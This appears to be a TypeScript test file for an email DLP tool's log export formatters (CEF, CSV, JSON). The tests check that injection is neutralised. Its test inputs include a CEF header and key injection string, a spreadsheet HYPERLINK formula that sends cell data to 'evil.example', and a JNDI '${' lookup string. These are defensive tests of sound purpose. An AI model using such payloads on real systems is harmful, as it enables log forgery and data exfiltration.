import { parse as parseCsv } from "csv-parse/sync";
import fc from "fast-check";
import parseSyslog from "nsyslog-parser";
import { describe, expect, it } from "vitest";
import { cef } from "../../../src/export/formats/cef.ts";
import { csvCell } from "../../../src/export/formats/csv-cell.ts";
import { outputOptionsSchema } from "../../../src/export/output-options.ts";
import { openRenderer } from "../../../src/export/render.ts";
import { ALL_KINDS, verdict } from "./sample-events.ts";

const KEY = new Uint8Array(32);
const render = (options: object) =>
  openRenderer(
    { dataset: "email_dlp_findings", output: outputOptionsSchema.parse(options), filter: null },
    { version: "1.2.3" },
    KEY,
  );
const lineOf = (event: Parameters<typeof cef>[0]): string => cef(event, { version: "1|2" })[0]?.text ?? "";

/** A reader after the CEF standard, for what the library does not unescape: unescaped pipes and `key=` decide. */
function readCef(line: string): {
  readonly header: readonly string[];
  readonly extension: ReadonlyMap<string, string>;
} {
  const header = [...line.matchAll(/((?:[^|\\]|\\.)*)\|/gs)].slice(0, 7).map(([, text = ""]) => text);
  const rest = line.slice(header.reduce((sum, text) => sum + text.length + 1, 0));
  const keys = [...rest.matchAll(/(?:^| )([A-Za-z0-9_]+)=/g)];
  const extension = keys.map(({ index, 0: found, 1: key = "" }, position) => {
    const text = rest.slice(index + found.length, keys[position + 1]?.index ?? rest.length);
    return [key, text.replaceAll(/\\(.)/g, (_all, char: string) => (char === "n" ? "\n" : char))] as const;
  });
  return { header: header.map((text) => text.replaceAll(/\\(.)/g, "$1")), extension: new Map(extension) };
}

describe("CEF", () => {
  it.each(ALL_KINDS.map((event, index) => [index, event] as const))(
    "event %i is one line that a CEF parser reads",
    (_, event) => {
      const line = lineOf(event);
      expect(line).not.toMatch(/[\r\n]/);
      const read = parseSyslog(`<134>Nov 30 21:45:00 host ${line}`) as {
        readonly cef?: { readonly deviceProduct: string };
      };
      expect(read.cef?.deviceProduct).toBe("Postern");
      expect(Number(readCef(line).header[6])).toBeGreaterThanOrEqual(0);
    },
  );

  it("does not let a subject or an address write a key, a header or a line of its own", () => {
    const subject = "a|b\\c=d act=allowed src=10.0.0.1 line1\r\nCEF:0|Evil|x|1|1|fake|10|act=allowed\u202e";
    const line = lineOf(verdict({ subject, sender: 'x|y=z" act=none' }));
    const { header, extension } = readCef(line);
    expect(header.slice(0, 4)).toEqual(["CEF:0", "Postern", "Postern", "1|2"]);
    expect(extension.get("act")).toBe("block");
    expect(extension.get("src")).toBeUndefined();
    expect(extension.get("suser")).toBe('x|y=z" act=none');
    expect(line).not.toMatch(/[\r\n\u202e]/);
  });

  it("reads back any text as it was, but for control characters", () => {
    fc.assert(
      fc.property(fc.string({ unit: "binary", maxLength: 300 }), (subject) => {
        const line = lineOf(verdict({ subject }));
        expect(line).not.toMatch(/[\p{Cc}\u2028\u2029]/u);
        const expected = subject
          .replaceAll(/\r\n|\r/g, "\n")
          .replaceAll(/[^\P{Cc}\n]|[\u2028\u2029\u202a-\u202e\u2066-\u2069]/gu, " ");
        expect(readCef(line).extension.get("msg") ?? "").toBe(expected);
      }),
      { numRuns: 500 },
    );
  });
});

describe("CSV", () => {
  it("gives every text back through a CSV parser, and no cell that a spreadsheet would compute", () => {
    fc.assert(
      fc.property(fc.array(fc.string({ unit: "binary", maxLength: 60 }), { minLength: 2, maxLength: 5 }), (texts) => {
        const line = `${texts.map((text) => csvCell(text, ",")).join(",")}\n`;
        const [cells = []] = parseCsv(line, { relax_column_count: true, record_delimiter: "\n" }) as string[][];
        expect(cells.map((cell, index) => (cell === `'${texts[index]}` ? texts[index] : cell))).toEqual(texts);
        for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
      }),
      { numRuns: 500 },
    );
  });

  it("puts an apostrophe before a formula in a subject", () => {
    const [record] = render({ output_type: "csv", field_names: ["EventID", "Subject"] })(
      verdict({ subject: '=HYPERLINK("http://evil.example/?d="&A1,"open")' }),
    );
    expect(record?.text).toBe(`event-1,"'=HYPERLINK(""http://evil.example/?d=""&A1,""open"")"\n`);
  });
});

describe("native records", () => {
  it("follow field_names, prefix, suffix, delimiter and timestamp format", () => {
    const [record] = render({
      field_names: ["Timestamp", "EventID"],
      timestamp_format: "unixnano",
      record_prefix: "<",
      record_suffix: ">",
      field_delimiter: ";",
    })(verdict());
    expect(record?.text).toBe('<"Timestamp":"1796075100123000000";"EventID":"event-1">');
  });

  it("are JSON objects with every field by default", () => {
    const [record] = render({})(verdict());
    expect(JSON.parse(record?.text ?? "")).toMatchObject({
      EventID: "event-1",
      Sequence: 1,
      Timestamp: "2026-11-30T21:45:00.123Z",
      Action: "block",
      ExternalRecipients: ["bob@out.example"],
      Truncated: false,
    });
    expect(record?.text.endsWith("}\n")).toBe(true);
  });

  it("follow a template, with null for fields that are not chosen", () => {
    const [record] = render({
      field_names: ["EventID"],
      record_template: "{{/* note */}}id={{ .EventID }} x={{.Subject}}",
    })(verdict());
    expect(record?.text).toBe('id="event-1" x=null\n');
  });

  it("hash or omit subject and attachment names when told to, in every format", () => {
    for (const output_type of ["ndjson", "csv", "ocsf", "ecs", "cef"])
      for (const privacy of ["hash", "omit"]) {
        const text = render({ output_type, privacy })(verdict())
          .map((record) => record.text)
          .join("");
        expect(text).not.toContain("Offer");
        expect(text).not.toContain("a.zip");
        expect(text).not.toContain("x.zip");
      }
  });

  it("sample by the event's id: the same events each time, about the share that was asked for", () => {
    const sampled = render({ sample_rate: 0.25 });
    const chosen = Array.from({ length: 2_000 }, (_, n) => sampled(verdict({}, n)).length);
    expect(chosen).toEqual(Array.from({ length: 2_000 }, (_, n) => sampled(verdict({}, n)).length));
    const share = chosen.reduce((sum, count) => sum + count, 0) / 2_000;
    expect(share).toBeGreaterThan(0.2);
    expect(share).toBeLessThan(0.3);
  });

  it("defuse ${ when told to", () => {
    const [record] = render({ "CVE-2021-44228": true, field_names: ["Subject"] })(
      verdict({ subject: `$${"{jndi:x}"}` }),
    );
    expect(record?.text).toBe('{"Subject":"x{jndi:x}"}\n');
  });
});
